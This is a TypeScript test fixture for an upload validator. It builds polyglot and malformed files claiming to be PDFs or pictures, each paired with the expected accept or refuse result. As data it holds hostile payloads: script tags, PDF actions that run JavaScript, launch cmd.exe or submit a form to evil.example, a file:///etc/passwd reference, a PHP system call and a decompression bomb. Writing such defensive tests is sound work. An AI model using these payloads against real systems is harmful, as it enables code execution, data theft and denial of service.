import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aPdf } from './small-pdf.ts';

const script = '<script>alert(1)</script>';
const bytes = (text: string) => Buffer.from(text, 'latin1');
const object = (inside: string) => aPdf(`1 0 obj\n<< ${inside} >>\nendobj`);

/** A PDF is stored unchanged, a picture is converted; anything else is refused with this code. */
type ExpectedResult = 'pdf' | 'picture' | 'broken-pdf' | 'not-a-picture' | 'unreadable';
export type HostileFile = { content: Buffer; claimedType?: string; expected: ExpectedResult };

/** Files that claim to be a PDF, or are a PDF and something else, each with the expected result. */
export async function hostilePdfs(): Promise<Record<string, HostileFile>> {
  const whole = aPdf(script);
  const photo = sharp({ create: { width: 200, height: 200, channels: 3, background: '#a32' } });
  const jpeg = await photo.jpeg().toBuffer();
  return {
    ...withSomethingInside(),
    'HTML with the header of a PDF': {
      content: bytes(`%PDF-1.4\n${script}`),
      expected: 'broken-pdf',
    },
    'HTML with the header and the end of a PDF': {
      content: whole,
      claimedType: 'text/html',
      expected: 'pdf',
    },
    'HTML before the PDF': {
      content: Buffer.concat([bytes(`<!doctype html>${script}`), whole]),
      expected: 'not-a-picture',
    },
    'a byte order mark before the PDF': {
      content: Buffer.concat([bytes('\xef\xbb\xbf'), whole]),
      expected: 'not-a-picture',
    },
    'zeros before the PDF': {
      content: Buffer.concat([Buffer.alloc(9), whole]),
      expected: 'not-a-picture',
    },
    'an archive before the PDF': {
      content: Buffer.concat([bytes('PK\x03\x04'), whole]),
      expected: 'not-a-picture',
    },
    'an archive behind the PDF': {
      content: Buffer.concat([whole, bytes('PK\x05\x06')]),
      expected: 'pdf',
    },
    'a GIF before the PDF': {
      content: Buffer.concat([bytes('GIF89a'), whole]),
      expected: 'not-a-picture',
    },
    'a JPEG with a PDF behind it': { content: Buffer.concat([jpeg, whole]), expected: 'picture' },
    'a JPEG that says it is a PDF': {
      content: jpeg,
      claimedType: 'application/pdf',
      expected: 'picture',
    },
    'the beginning of a JPEG before a PDF': {
      content: Buffer.concat([jpeg.subarray(0, 4), whole]),
      expected: 'unreadable',
    },
    'a PDF that says it is a picture': {
      content: aPdf(),
      claimedType: 'image/png',
      expected: 'pdf',
    },
    'half a PDF': { content: aPdf('x'.repeat(4000)).subarray(0, 2000), expected: 'broken-pdf' },
    'the header alone': { content: bytes('%PDF-'), expected: 'broken-pdf' },
    'a version that is none': { content: bytes('%PDF-x.y\n%%EOF'), expected: 'broken-pdf' },
    'two kilobytes of something behind the end': {
      content: Buffer.concat([whole, Buffer.alloc(2048, 65)]),
      expected: 'broken-pdf',
    },
    nothing: { content: Buffer.alloc(0), expected: 'not-a-picture' },
    PostScript: {
      content: bytes('%!PS-Adobe-3.0\n(%PDF-1.4) run\n%%EOF'),
      expected: 'not-a-picture',
    },
    'an SVG named as a PDF': {
      content: bytes(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
      claimedType: 'application/pdf',
      expected: 'not-a-picture',
    },
    'a program': { content: bytes('MZ\x90\0%PDF-1.4\n%%EOF'), expected: 'not-a-picture' },
  };
}

/** Valid documents that harm programs which execute them. The shop never does. */
function withSomethingInside(): Record<string, HostileFile> {
  const bomb = deflateSync(Buffer.alloc(100_000_000)).toString('latin1');
  const inside = {
    'JavaScript that runs when it is opened':
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    'a program that it starts': '/OpenAction << /S /Launch /F (cmd.exe) >>',
    'a form that sends itself': '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>',
    'a file of the server': '/F << /FS /URL /F (file:///etc/passwd) >>',
    'an XFA form': `/AcroForm << /XFA (<xdp:xdp>${script}</xdp:xdp>) >>`,
    'a password': '/Encrypt << /Filter /Standard /V 5 /R 6 >>',
    'arrays in ten thousand arrays': `/Kids ${'['.repeat(10_000)}${']'.repeat(10_000)}`,
    'a stream that unpacks into 100 MB': `/Filter /FlateDecode >> stream\n${bomb}\nendstream <<`,
    'a script between two comments': '*/=1;alert(1);/*',
    PHP: '<?php system("id"); ?>',
  };
  return Object.fromEntries(
    Object.entries(inside).map(([name, dictionary]) => [
      name,
      { content: Buffer.from(object(dictionary)), expected: 'pdf' as const },
    ]),
  );
}
